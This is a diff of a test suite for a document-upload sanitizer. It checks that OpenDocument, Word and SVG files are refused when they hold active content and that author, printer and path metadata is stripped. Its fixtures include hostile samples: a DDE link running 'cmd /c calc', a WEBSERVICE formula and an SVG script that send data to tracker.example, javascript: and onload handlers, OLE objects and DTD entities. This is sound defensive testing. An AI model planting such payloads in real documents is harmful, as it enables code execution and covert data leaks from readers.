@@ -219,6 +219,18 @@ for (const engine of testEngines()) {
       assert.equal(await fileCount(), before);
     });
 
+    it('refuses a file that grows beyond 50 MB when cleaned, in English and in Khmer, storing nothing', async () => {
+      const before = await fileCount();
+      const docx = await docxGrowingWhenCleaned();
+      const en = await upload(editor, [{ name: 'photos.docx', bytes: docx }]);
+      assert.equal(en.statusCode, 400);
+      assert.match(en.body, /photos\.docx: once its pictures are re-encoded without their metadata, the file is larger than 50 MB/);
+      const km = await upload(khmerEditor, [{ name: 'photos.docx', bytes: docx }]);
+      assert.equal(km.statusCode, 400);
+      assert.match(km.body, /photos\.docx៖ នៅពេលរូបភាពរបស់វាត្រូវបានអ៊ិនកូដឡើងវិញ/);
+      assert.equal(await fileCount(), before);
+    });
+
     it("refuses a Word file in an item's PDF field, with the reason in the editor's language", async () => {
       const before = await fileCount();
       const body = multipartBody({}, [{ field: 'file', name: 'notes.docx', type: 'application/octet-stream', bytes: ooxmlFile('docx') }]);
@@ -395,5 +407,227 @@ describe('office documents: what else tells who made them', () => {
     assert.deepEqual(await checkUpload(encrypted, 'secret.odt'), { ok: false, problem: 'encryptedDocument' });
     const wholePackage = odfFile('odt', { 'META-INF/manifest.xml': manifest('').replace('content.xml', 'encrypted-package'), 'encrypted-package': 'ciphertext' });
     assert.deepEqual(await checkUpload(wholePackage, 'secret.odt'), { ok: false, problem: 'encryptedDocument' });
+  });
+});
+
+const ODF_NS =
+  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" xmlns:config="urn:oasis:names:tc:opendocument:xmlns:config:1.0"';
+
+/** An OpenDocument text whose body is `body`, with more parts (text or bytes) beside it. */
+function odtWith(body: string, extra: Record<string, string | Uint8Array> = {}): Buffer {
+  const base = unzipSync(odfFile('odt'));
+  const content = `<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content ${ODF_NS}><office:body><office:text><text:p>Land report 2024</text:p>${body}</office:text></office:body></office:document-content>`;
+  return Buffer.from(
+    zipSync({
+      ...base,
+      mimetype: [base.mimetype!, { level: 0 }],
+      'content.xml': strToU8(content),
+      ...Object.fromEntries(Object.entries(extra).map(([name, value]) => [name, typeof value === 'string' ? strToU8(value) : value])),
+    }),
+  );
+}
+
+const outcome = async (bytes: Buffer, name: string) => {
+  const check = await checkUpload(bytes, name);
+  return check.ok ? 'accepted' : check.problem;
+};
+
+describe('office documents: OpenDocument links, objects and settings', () => {
+  it('refuses a picture, fill or font linked from outside the package, and keeps pictures inside it and hyperlinks', async () => {
+    const frame = (href: string) => `<draw:frame><draw:image xlink:href="${href}" xlink:type="simple"/></draw:frame>`;
+    assert.equal(await outcome(odtWith(frame('http://tracker.example/pixel.png')), 'minutes.odt'), 'activeContent');
+    assert.equal(await outcome(odtWith(frame('&#x68;ttp://tracker.example/pixel.png')), 'minutes.odt'), 'activeContent', 'a scheme written as a character reference');
+    assert.equal(await outcome(odtWith(frame('//tracker.example/pixel.png')), 'minutes.odt'), 'activeContent');
+    assert.equal(await outcome(odtWith(frame('file:///C:/Users/sokha/photo.png')), 'minutes.odt'), 'activeContent');
+    assert.equal(await outcome(odtWith(frame('../photo.png')), 'minutes.odt'), 'activeContent', 'a file beside the document');
+    assert.equal(await outcome(odtWith('<d:frame xmlns:d="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:l="http://www.w3.org/1999/xlink"><d:image l:href="https://tracker.example/p.png"/></d:frame>'), 'minutes.odt'), 'activeContent', 'other prefixes');
+    const styles = (inner: string) => `<office:document-styles ${ODF_NS}><office:styles>${inner}</office:styles></office:document-styles>`;
+    assert.equal(await outcome(odtWith('', { 'styles.xml': styles('<draw:fill-image draw:name="bg" xlink:href="https://tracker.example/bg.png"/>') }), 'minutes.odt'), 'activeContent');
+    assert.equal(await outcome(odtWith('', { 'styles.xml': styles('<style:style><style:graphic-properties><style:background-image xlink:href="http://tracker.example/bg.png"/></style:graphic-properties></style:style>') }), 'minutes.odt'), 'activeContent');
+    assert.equal(await outcome(odtWith('<text:section text:name="s"><text:section-source xlink:href="https://tracker.example/part.odt"/></text:section>'), 'minutes.odt'), 'activeContent', 'a linked section');
+
+    const photo = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#123456' } }).png().toBuffer();
+    const kept = odtWith(`${frame('Pictures/photo.png')}<text:p><text:a xlink:href="https://example.org/report" xlink:type="simple">our report</text:a></text:p>`, {
+      'Pictures/photo.png': photo,
+      'styles.xml': styles('<draw:fill-image draw:name="bg" xlink:href="Pictures/photo.png"/>'),
+    });
+    const check = await checkUpload(kept, 'minutes.odt');
+    assert.ok(check.ok && check.kind === 'office', JSON.stringify(check));
+    const content = strFromU8(unzipSync(check.cleaned)['content.xml']!);
+    assert.match(content, /xlink:href="Pictures\/photo\.png"/);
+    assert.match(content, /xlink:href="https:\/\/example\.org\/report"/);
+  });
+
+  it('refuses OLE objects, applets, plug-ins, frames, scripts, DDE and web formulas, and a DTD that could write them', async () => {
+    const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
+    const cases: Array<[string, Buffer]> = [
+      ['an OLE object', odtWith('<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>', { 'Object 1': ole, 'ObjectReplacements/Object 1': 'replacement' })],
+      ['an OLE part found by its bytes', odtWith('', { 'Object 2': ole })],
+      ['an applet', odtWith('<draw:frame><draw:applet draw:code="Tracker.class" xlink:href="Applets/"/></draw:frame>')],
+      ['a plug-in', odtWith('<draw:frame><draw:plugin draw:mime-type="application/x-shockwave-flash" xlink:href="Media/1.swf"/></draw:frame>')],
+      ['a floating frame', odtWith('<draw:frame><draw:floating-frame xlink:href="Pictures/page.html"/></draw:frame>')],
+      ['a script event', odtWith('<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners>')],
+      ['an inline script', odtWith('<text:p><text:script script:language="javascript">alert(1)</text:script></text:p>')],
+      ['a slide action that runs a program', odtWith('<office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="execute" xlink:href="file:///C:/Windows/System32/calc.exe"/></office:event-listeners>')],
+      ['a hyperlink to a shipped script', odtWith('<text:p><text:a xlink:href="vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&amp;location=share">click</text:a></text:p>')],
+      ['a DDE link', odtWith('<text:dde-connection-decls><text:dde-connection-decl office:name="x" office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls>')],
+      ['a web formula', odtWith('<table:table><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;https://tracker.example/?&quot;&amp;[.A1])"/></table:table-row></table:table>')],
+      ['an embedded object that is not a sub-document', odtWith('<draw:frame><draw:object xlink:href="./Object 3"/></draw:frame>', { 'Object 3': 'not a document' })],
+      ['an embedded object outside the package', odtWith('<draw:frame><draw:object xlink:href="https://tracker.example/chart.ods"/></draw:frame>')],
+      ['a DTD with entities', odtWith('', { 'styles.xml': '<!DOCTYPE x [<!ENTITY e "&lt;draw:applet/&gt;">]><office:document-styles>&e;</office:document-styles>' })],
+    ];
+    for (const [what, bytes] of cases) assert.equal(await outcome(bytes, 'minutes.odt'), 'activeContent', what);
+    assert.equal(await outcome(odtWith('', { 'Scripts/python/tracker.py': 'import os' }), 'minutes.odt'), 'macros');
+    // A slide's ordinary actions stay: going to the next slide, or following a link when clicked.
+    assert.equal(await outcome(odtWith('<office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="show" xlink:href="https://example.org/"/></office:event-listeners>'), 'minutes.odt'), 'accepted');
+  });
+
+  it('takes a chart embedded as an OpenDocument sub-document, cleaning its meta.xml and settings like the document’s', async () => {
+    const chart = `<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content ${ODF_NS} xmlns:chart="urn:oasis:names:tc:opendocument:xmlns:chart:1.0"><office:body><office:chart><chart:chart chart:class="chart:bar"><table:table table:name="local-table"/></chart:chart></office:chart></office:body></office:document-content>`;
+    const meta = strFromU8(unzipSync(odfFile('odt'))['meta.xml']!);
+    const settings = `<office:document-settings ${ODF_NS}><office:settings><config:config-item-set config:name="ooo:configuration-settings"><config:config-item config:name="PrinterName" config:type="string">HR-Printer on \\\\SOKHA-LAPTOP</config:config-item></config:config-item-set></office:settings></office:document-settings>`;
+    const replacement = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#abcdef' } }).png().toBuffer();
+    const odt = odtWith('<draw:frame><draw:object xlink:href="./Object 1" xlink:type="simple"/><draw:image xlink:href="./ObjectReplacements/Object 1"/></draw:frame>', {
+      'Object 1/content.xml': chart,
+      'Object 1/meta.xml': meta,
+      'Object 1/settings.xml': settings,
+      'ObjectReplacements/Object 1': replacement,
+    });
+    const check = await checkUpload(odt, 'minutes.odt');
+    assert.ok(check.ok && check.kind === 'office', JSON.stringify(check));
+    const parts = assertNoMetadata(check.cleaned);
+    assert.match(strFromU8(parts['Object 1/content.xml']!), /chart:class="chart:bar"/);
+    assert.match(strFromU8(parts['Object 1/meta.xml']!), /<office:meta\/>/);
+    assert.doesNotMatch(strFromU8(parts['Object 1/settings.xml']!), /SOKHA-LAPTOP|PrinterName/);
+    assert.ok(parts['ObjectReplacements/Object 1']);
+  });
+
+  it('drops the printer, mail-merge database and revision session numbers from settings.xml, keeping the layout settings', async () => {
+    const item = (name: string, type: string, value: string) => `<config:config-item config:name="${name}" config:type="${type}">${value}</config:config-item>`;
+    const settings = `<?xml version="1.0" encoding="UTF-8"?>\n<office:document-settings ${ODF_NS}><office:settings><config:config-item-set config:name="ooo:view-settings">${item('ViewAreaTop', 'long', '0')}</config:config-item-set><config:config-item-set config:name="ooo:configuration-settings">${[
+      item('PrinterName', 'string', 'HR-Printer on \\\\PRINTSRV-SOKHA'),
+      item('PrinterSetup', 'base64Binary', Buffer.from('PRINTSRV-SOKHA driver record').toString('base64')),
+      item('PrintFaxName', 'string', 'Fax on SOKHA-LAPTOP'),
+      item('CurrentDatabaseDataSource', 'string', 'file:///home/sokha/Documents/victims.odb'),
+      item('CurrentDatabaseCommand', 'string', 'Victims'),
+      item('RsidRoot', 'int', '1234567'),
+      item('Rsid', 'int', '7654321'),
+      item('PrinterIndependentLayout', 'string', 'high-resolution'),
+      '<config:config-item config:name="PrinterPaperFromSetup" config:type="boolean"/>',
+    ].join('')}</config:config-item-set></office:settings></office:document-settings>`;
+    assert.match(settings, /PRINTSRV-SOKHA/);
+    const check = await checkUpload(odtWith('', { 'settings.xml': settings }), 'minutes.odt');
+    assert.ok(check.ok && check.kind === 'office', JSON.stringify(check));
+    const cleaned = strFromU8(unzipSync(check.cleaned)['settings.xml']!);
+    for (const gone of ['PRINTSRV', Buffer.from('PRINTSRV-SOKHA driver record').toString('base64'), 'SOKHA-LAPTOP', 'victims', 'Victims', '1234567', '7654321', 'PrinterName', 'PrinterSetup', 'Rsid']) assert.ok(!cleaned.includes(gone), `${gone} is gone`);
+    assert.match(cleaned, /config:name="ViewAreaTop"/);
+    assert.match(cleaned, /config:name="PrinterIndependentLayout"[^>]*>high-resolution</);
+    assert.match(cleaned, /config:name="PrinterPaperFromSetup"/);
+  });
+});
+
+/** An SVG as Inkscape saves it: the author in RDF, the export path and document name in its own attributes, a comment, and a photo written into it. */
+async function svgWithTraces(extra = ''): Promise<string> {
+  const photo = (await photoWithGps()).toString('base64');
+  return `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
+<!-- Created with Inkscape by ${AUTHOR} -->
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#" xmlns:dc="http://purl.org/dc/elements/1.1/" width="20" height="20" viewBox="0 0 20 20" sodipodi:docname="/home/sokha.secret/map.svg" inkscape:export-filename="/home/sokha.secret/Desktop/map.png" inkscape:version="1.3">
+  <title>Map of the province</title>
+  <metadata><rdf:RDF><cc:Work><dc:creator><cc:Agent><dc:title>${EDITOR}</dc:title></cc:Agent></dc:creator><dc:rights>${COMPANY}</dc:rights></cc:Work></rdf:RDF></metadata>
+  <sodipodi:namedview id="view" inkscape:current-layer="layer1" inkscape:window-width="1920"/>
+  <defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>
+  <g inkscape:label="${COMMENT}" inkscape:groupmode="layer" id="layer1">
+    <path d="M1 1 L19 19" style="fill:url(#g);stroke:#000"/>
+    <image width="4" height="3" xlink:href="data:image/jpeg;base64,${photo}"/>
+    <a href="https://example.org/map"><text x="2" y="10">Map &amp; legend</text></a>
+  </g>${extra}
+</svg>`;
+}
+
+describe('office documents: SVG pictures', () => {
+  const docxWithSvg = (svg: string, name = 'word/media/image1.svg') => Buffer.from(zipSync({ ...unzipSync(ooxmlFile('docx')), [name]: strToU8(svg) }));
+
+  it('rewrites an SVG without its metadata, comments and editor attributes, re-encoding the photo inside it', async () => {
+    const svg = await svgWithTraces();
+    for (const trace of [AUTHOR, EDITOR, 'sokha.secret', ARTIST]) assert.ok(svg.includes(trace) || Buffer.from(svg.split('base64,')[1]!, 'base64').includes(Buffer.from(trace)), `the fixture carries ${trace}`);
+    for (const [file, name] of [
+      [docxWithSvg(svg), 'report.docx'],
+      [odtWith('<draw:frame><draw:image xlink:href="Pictures/map.svg"/></draw:frame>', { 'Pictures/map.svg': svg }), 'minutes.odt'],
+    ] as const) {
+      const check = await checkUpload(file, name);
+      assert.ok(check.ok && check.kind === 'office', JSON.stringify(check));
+      const parts = assertNoMetadata(check.cleaned);
+      const cleaned = strFromU8(parts[name.endsWith('docx') ? 'word/media/image1.svg' : 'Pictures/map.svg']!);
+      for (const gone of ['sokha.secret', 'inkscape', 'sodipodi', 'rdf', 'metadata', '<!--', 'namedview']) assert.ok(!cleaned.includes(gone), `${gone} is gone`);
+      assert.match(cleaned, /<title>Map of the province<\/title>/);
+      assert.match(cleaned, /<path d="M1 1 L19 19" style="fill:url\(#g\);stroke:#000"\/>/);
+      assert.match(cleaned, /<a href="https:\/\/example\.org\/map"><text x="2" y="10">Map &amp; legend<\/text><\/a>/);
+      const embedded = /xlink:href="data:image\/jpeg;base64,([^"]+)"/.exec(cleaned);
+      assert.ok(embedded, 'the photo stays in the picture');
+      const photo = Buffer.from(embedded[1]!, 'base64');
+      assert.ok(!photo.includes(Buffer.from(ARTIST)));
+      const meta = await sharp(photo).metadata();
+      assert.equal(meta.exif, undefined);
+      assert.equal(meta.width, 16);
+      // Still a picture: sharp draws it.
+      assert.equal((await sharp(Buffer.from(cleaned)).metadata()).width, 20);
+    }
+  });
+
+  it('finds an SVG by its content whatever it is called', async () => {
+    const check = await checkUpload(docxWithSvg(await svgWithTraces(), 'word/media/image1.bin'), 'report.docx');
+    assert.ok(check.ok && check.kind === 'office', JSON.stringify(check));
+    assert.doesNotMatch(strFromU8(unzipSync(check.cleaned)['word/media/image1.bin']!), /sokha\.secret/);
+  });
+
+  it('refuses an SVG that runs a script, shows a page or fetches something from outside', async () => {
+    const cases: Array<[string, string]> = [
+      ['a script', '<script>fetch("https://tracker.example/")</script>'],
+      ['a foreign object', '<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">page</div></foreignObject>'],
+      ['an event attribute', '<rect width="1" height="1" onload="alert(1)"/>'],
+      ['a linked picture', '<image width="1" height="1" href="https://tracker.example/pixel.png"/>'],
+      ['a linked picture with xlink', '<image width="1" height="1" xlink:href="http://tracker.example/pixel.png"/>'],
+      ['another file', '<use xlink:href="file:///home/sokha/shapes.svg#a"/>'],
+      ['a CSS address', '<rect width="1" height="1" style="fill:url(https://tracker.example/f.svg#p)"/>'],
+      ['a CSS import', '<style>@import "https://tracker.example/s.css";</style>'],
+      ['a javascript link', '<a href="javascript:alert(1)"><text>x</text></a>'],
+      ['an animated link', '<a href="#x"><set attributeName="href" to="https://tracker.example/"/></a>'],
+    ];
+    for (const [what, extra] of cases) assert.equal(await outcome(docxWithSvg(await svgWithTraces(extra)), 'report.docx'), 'activeContent', what);
+    const withDtd = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e "x">]><svg xmlns="http://www.w3.org/2000/svg">&e;</svg>';
+    assert.equal(await outcome(docxWithSvg(withDtd), 'report.docx'), 'activeContent', 'a DTD');
+    assert.equal(await outcome(docxWithSvg('<svg xmlns="http://www.w3.org/2000/svg"><g></svg>'), 'report.docx'), 'uncleanableImage', 'an SVG that does not parse');
+  });
+});
+
+let growing: Buffer | undefined;
+
+/**
+ * A .docx of 6 MB that cleans to 60 MB: two copies of a 6700×6700 picture of a small noise tile
+ * repeated, which a deflate-compressed TIFF keeps in 3 MB and which comes back re-encoded at
+ * 30 MB, since repeating the tile is nothing to a TIFF's deflate and everything to a JPEG.
+ */
+async function docxGrowingWhenCleaned(): Promise<Buffer> {
+  if (growing) return growing;
+  const noise = Buffer.alloc(64 * 64 * 3);
+  let seed = 1;
+  for (let i = 0; i < noise.length; i += 1) {
+    seed = (seed * 1103515245 + 12345) >>> 0;
+    noise[i] = seed >>> 24;
+  }
+  const tile = await sharp(noise, { raw: { width: 64, height: 64, channels: 3 } }).png().toBuffer();
+  const tiff = await sharp({ create: { width: 6700, height: 6700, channels: 3, background: '#000000' } })
+    .composite([{ input: tile, tile: true }])
+    .tiff({ compression: 'deflate' })
+    .toBuffer();
+  growing = Buffer.from(zipSync({ ...unzipSync(ooxmlFile('docx')), 'word/media/image1.tiff': [tiff, { level: 0 }], 'word/media/image2.tiff': [tiff, { level: 0 }] }));
+  return growing;
+}
+
+describe('office documents: the cleaned size', () => {
+  it('refuses a file that cleans to more than the upload limit', async () => {
+    const docx = await docxGrowingWhenCleaned();
+    assert.ok(docx.length < 10 * 1024 * 1024, `sent well under the limit (${docx.length} bytes)`);
+    assert.deepEqual(await checkUpload(docx, 'report.docx'), { ok: false, problem: 'tooLargeCleanedDocument' });
   });
 });
